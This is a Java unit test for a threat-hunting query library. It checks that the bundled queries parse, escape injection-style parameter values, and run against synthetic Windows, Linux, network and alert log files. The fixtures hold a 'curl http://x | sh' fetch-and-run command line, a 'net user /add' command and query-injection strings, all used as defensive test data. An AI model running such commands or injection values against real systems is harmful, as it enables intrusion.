package dev.hunt4j.provider.local;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import dev.hunt4j.api.QueryException;
import dev.hunt4j.api.query.QueryLanguages;
import dev.hunt4j.api.query.QueryProvider;
import java.io.InputStream;
import java.net.URL;
import java.nio.file.Path;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.yaml.snakeyaml.Yaml;

/**
 * The bundled query library: MSTICPy's format, every query parses with hostile parameter values, and every
 * query runs against files with the sample data set's columns.
 */
class BuiltinQueriesTest {
    @TempDir
    static Path dir;
    static Map<String, Object> yaml;

    @BeforeAll
    @SuppressWarnings("unchecked")
    static void load() throws Exception {
        List<URL> files = new LocalFilesProviderFactory().builtinQueryFiles();
        assertEquals(1, files.size());
        try (InputStream in = files.get(0).openStream()) {
            yaml = new Yaml().load(in);
        }
        writeSampleShapedFiles();
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> map(Object o, String what) {
        assertTrue(o instanceof Map, what + " is a mapping");
        return (Map<String, Object>) o;
    }

    @Test
    void metadataFollowsMsticpy() {
        Map<String, Object> meta = map(yaml.get("metadata"), "metadata");
        assertEquals(List.of("LocalData", "local"), meta.get("data_environments"));
        assertNotNull(meta.get("version"));
        List<?> families = (List<?>) meta.get("data_families");
        assertTrue(families.containsAll(List.of("WindowsSecurity", "LinuxSyslog", "Network", "SecurityAlert")), families.toString());
        Map<String, Object> sources = map(yaml.get("sources"), "sources");
        assertTrue(sources.size() >= 15, "queries: " + sources.keySet());
        for (String name : List.of("list_host_processes", "list_processes_by_account", "list_host_logons", "list_logon_failures",
                "list_logons_for_account", "list_logons_from_ip", "list_syslog", "list_auditd_execve", "list_host_network_flows",
                "list_flows_to_ip", "list_dns_queries", "list_dns_for_domain", "list_alerts", "list_alerts_for_host", "list_ioc_feed")) {
            assertTrue(sources.containsKey(name), "missing query " + name);
        }
        for (Map.Entry<String, Object> e : sources.entrySet()) {
            Map<String, Object> src = map(e.getValue(), e.getKey());
            assertFalse(String.valueOf(src.get("description")).isBlank(), e.getKey() + " description");
            assertTrue(map(src.get("args"), e.getKey() + ".args").get("query") instanceof String, e.getKey() + " query");
            List<?> fam = (List<?>) map(src.get("metadata"), e.getKey() + ".metadata").get("data_families");
            assertTrue(fam != null && fam.size() == 1 && families.contains(fam.get(0)), e.getKey() + " family " + fam);
        }
    }

    /** Every parameter a query uses, with its declared type and default (file defaults, then the query's own). */
    private static Map<String, Map<String, Object>> parameters(Map<String, Object> src) {
        Map<String, Map<String, Object>> params = new LinkedHashMap<>();
        Map<String, Object> defaults = map(yaml.get("defaults"), "defaults");
        for (Map<String, Object> level : List.of(defaults, src)) {
            Object p = level.get("parameters");
            if (p != null) {
                map(p, "parameters").forEach((k, v) -> params.put(k, map(v, k)));
            }
        }
        return params;
    }

    private static Object dummy(String name, Map<String, Object> spec, boolean hostile) {
        String type = String.valueOf(spec.get("type"));
        return switch (type) {
            case "int" -> 443L;
            case "datetime" -> Instant.parse("2024-01-01T00:00:00Z");
            case "list" -> hostile ? List.of("a\"b", "| where 1==1", "c\\") : spec.getOrDefault("default", List.of("x"));
            default -> hostile ? "x\" or 1==1 or \"\\' | take 1 \n" + name : "WORKSTATION1";
        };
    }

    /** MSTICPy-style substitution with the files language's escaping, tracking whether each {param} is inside a literal. */
    static String render(String template, Map<String, Object> values) {
        StringBuilder out = new StringBuilder();
        Character quote = null;
        boolean verbatim = false;
        for (int i = 0; i < template.length(); i++) {
            char c = template.charAt(i);
            if (c == '{') {
                int end = template.indexOf('}', i);
                String name = template.substring(i + 1, end);
                if (!values.containsKey(name)) {
                    fail("query uses undeclared parameter {" + name + "}: " + template);
                }
                Object v = values.get(name);
                out.append(quote == null ? QueryLanguages.FILES.bare(v) : QueryLanguages.FILES.insideString(v, quote, verbatim));
                i = end;
                continue;
            }
            out.append(c);
            if (quote == null) {
                if (c == '"' || c == '\'') {
                    quote = c;
                    verbatim = i > 0 && template.charAt(i - 1) == '@';
                }
            } else if (!verbatim && c == '\\' && i + 1 < template.length()) {
                out.append(template.charAt(++i));
            } else if (c == quote) {
                if (verbatim && i + 1 < template.length() && template.charAt(i + 1) == quote) {
                    out.append(template.charAt(++i));
                } else {
                    quote = null;
                }
            }
        }
        return out.toString();
    }

    private static Map<String, String> rendered(boolean hostile) {
        Map<String, String> out = new LinkedHashMap<>();
        map(yaml.get("sources"), "sources").forEach((name, s) -> {
            Map<String, Object> src = map(s, name);
            Map<String, Object> values = new LinkedHashMap<>();
            parameters(src).forEach((p, spec) -> values.put(p, dummy(p, spec, hostile)));
            out.put(name, render((String) map(src.get("args"), name).get("query"), values));
        });
        return out;
    }

    @Test
    void everyQueryParsesAndHostileValuesStayInsideTheirLiterals() {
        Map<String, String> plain = rendered(false);
        rendered(true).forEach((name, query) -> {
            Ast.Query hostile;
            try {
                hostile = QueryParser.parse(query);
            } catch (QueryException e) {
                throw new AssertionError(name + ": " + e.getMessage(), e);
            }
            Ast.Query normal = QueryParser.parse(plain.get(name));
            assertEquals(shape(normal), shape(hostile), name + ": a parameter value changed the query's structure");
        });
    }

    /** The query's structure without its literal values. */
    private static String shape(Ast.Query q) {
        StringBuilder sb = new StringBuilder(q.source());
        for (Ast.Stage s : q.stages()) {
            sb.append(" | ").append(s instanceof Ast.Where w ? "where " + shape(w.expr()) : s.getClass().getSimpleName());
        }
        return sb.toString();
    }

    private static String shape(Ast.Expr e) {
        if (e instanceof Ast.Or o) {
            return "(" + shape(o.left()) + " or " + shape(o.right()) + ")";
        }
        if (e instanceof Ast.And a) {
            return "(" + shape(a.left()) + " and " + shape(a.right()) + ")";
        }
        if (e instanceof Ast.Not n) {
            return "not(" + shape(n.inner()) + ")";
        }
        if (e instanceof Ast.Compare c) {
            return c.column().name() + " " + c.op().symbol + " ?";
        }
        if (e instanceof Ast.In in) {
            return in.column().name() + (in.negated() ? " !in" : " in") + (in.ignoreCase() ? "~" : "") + " (...)";
        }
        return e.toString();
    }

    @Test
    void everyQueryRunsAgainstFilesWithTheSampleDataColumns() {
        QueryProvider p = Fixture.provider(dir);
        rendered(false).forEach((name, query) -> {
            try {
                Fixture.rows(p, query);
            } catch (QueryException e) {
                throw new AssertionError(name + ": " + query + "\n" + e.getMessage(), e);
            }
        });
        rendered(true).forEach((name, query) -> Fixture.rows(p, query));
        assertEquals(1, Fixture.rows(p, rendered(false).get("list_host_processes")).size());
        assertEquals(2, Fixture.rows(p, rendered(false).get("list_logon_failures").replace("WORKSTATION1", "")).size(),
                "an empty host_name lists failures on every host");
    }

    private static void writeSampleShapedFiles() {
        Fixture.write(dir, "win_process_events.csv", """
                TimeGenerated,Computer,EventID,Account,SubjectUserSid,SubjectUserName,SubjectDomainName,SubjectLogonId,NewProcessId,NewProcessName,ProcessId,ParentProcessName,CommandLine,TokenElevationType
                2024-01-01 10:00:00.000000,WORKSTATION1.contoso.com,4688,CONTOSO\\alice,S-1-5-21-1-1001,alice,CONTOSO,0x3e7,0x1a4,C:\\Windows\\System32\\cmd.exe,0x10,C:\\Windows\\explorer.exe,cmd.exe /c whoami,%%1936
                2024-01-01 10:01:00.000000,SERVER2.contoso.com,4688,CONTOSO\\bob,S-1-5-21-1-1002,bob,CONTOSO,0x3e8,0x1a5,C:\\Windows\\System32\\net.exe,0x11,C:\\Windows\\System32\\cmd.exe,"net user ""x"" /add",%%1937
                """);
        Fixture.write(dir, "win_logon_events.csv", """
                TimeGenerated,Computer,EventID,Account,TargetUserName,TargetDomainName,TargetUserSid,TargetLogonId,LogonType,LogonProcessName,AuthenticationPackageName,IpAddress,WorkstationName,Status,SubStatus
                2024-01-01T10:00:00Z,WORKSTATION1,4624,CONTOSO\\alice,alice,CONTOSO,S-1-5-21-1-1001,0x3e7,10,User32,Negotiate,10.0.0.5,WS1,0x0,0x0
                2024-01-01T10:05:00Z,WORKSTATION1,4625,CONTOSO\\alice,alice,CONTOSO,S-1-0-0,0x0,3,NtLmSsp,NTLM,203.0.113.9,-,0xc000006d,0xc000006a
                2024-01-01T10:06:00Z,SERVER2,4625,CONTOSO\\bob,bob,CONTOSO,S-1-0-0,0x0,3,NtLmSsp,NTLM,203.0.113.9,-,0xc000006d,0xc000006a
                """);
        Fixture.write(dir, "linux_syslog.csv", """
                TimeGenerated,Computer,Facility,SeverityLevel,ProcessName,ProcessID,HostIP,SyslogMessage
                2024-01-01T10:00:00Z,linux1,authpriv,info,sudo,1234,10.0.1.4,"alice : TTY=pts/0 ; COMMAND=/bin/bash"
                2024-01-01T10:00:01Z,linux1,daemon,err,sshd,99,10.0.1.4,error: kex_exchange_identification
                """);
        Fixture.write(dir, "linux_auditd.jsonl", """
                {"TimeGenerated":"2024-01-01T10:00:00Z","Computer":"linux1","EventType":"EXECVE","pid":100,"ppid":1,"uid":0,"auid":1000,"user":"root","exe":"/usr/bin/curl","cmdline":"curl http://x | sh","cwd":"/tmp","tty":"pts0"}
                {"TimeGenerated":"2024-01-01T10:00:05Z","Computer":"linux1","EventType":"USER_LOGIN","pid":101,"ppid":1,"uid":1000,"auid":1000,"user":"alice","exe":"/usr/sbin/sshd","cmdline":null,"cwd":"/","tty":null}
                """);
        Fixture.writeGzip(dir, "network_flows.jsonl.gz", """
                {"TimeGenerated":"2024-01-01T10:00:00Z","Computer":"WORKSTATION1","SrcIP":"10.0.0.5","SrcPort":50000,"DestIP":"203.0.113.9","DestPort":443,"L4Protocol":"TCP","FlowDirection":"Outbound","BytesSent":1200,"BytesReceived":53000,"ProcessName":"chrome.exe"}
                """);
        Fixture.write(dir, "dns_events.csv", """
                TimeGenerated,Computer,ClientIP,Name,QueryType,IPAddresses,ResultCode
                2024-01-01T10:00:00Z,WORKSTATION1,10.0.0.5,www.example.com,A,"93.184.216.34,93.184.216.35",0
                """);
        Fixture.write(dir, "security_alerts.json", """
                [{"TimeGenerated":"2024-01-01T10:00:00Z","AlertName":"Suspicious PowerShell","AlertSeverity":"High","Description":"d",
                  "CompromisedEntity":"WORKSTATION1","ProviderName":"ASC","AlertType":"T1","SystemAlertId":"a-1",
                  "Entities":[{"Type":"host","HostName":"WORKSTATION1"}],"Tactics":"Execution"}]
                """);
        Fixture.write(dir, "ioc_feed.csv", """
                Ioc,IocType,Severity,Source,Description,FirstSeen
                203.0.113.9,ipv4,high,feed,C2 server,2024-01-01
                evil.example,dns,medium,feed,phishing,2024-01-02
                """);
    }
}
